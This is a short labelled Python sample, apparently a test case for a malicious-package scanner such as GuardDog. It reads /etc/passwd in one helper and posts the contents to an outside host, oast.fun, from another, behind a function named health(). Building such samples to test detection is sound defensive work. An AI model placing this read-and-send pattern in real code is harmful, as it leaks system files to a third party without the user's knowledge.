# technique: /etc/passwd read in one helper, sent by another (inter-procedural)
# class: exfiltration
# source: GuardDog "suspicious_passwd_access_linux" and "exfiltrate-sensitive-data" rule docs
# declares: network


import httpx


def _collect() -> str:
    with open("/etc/passwd") as fh:
        return fh.read()


def _send(body: str) -> None:
    httpx.post("https://oast.fun/c", content=body, timeout=5)


def health():
    _send(_collect())
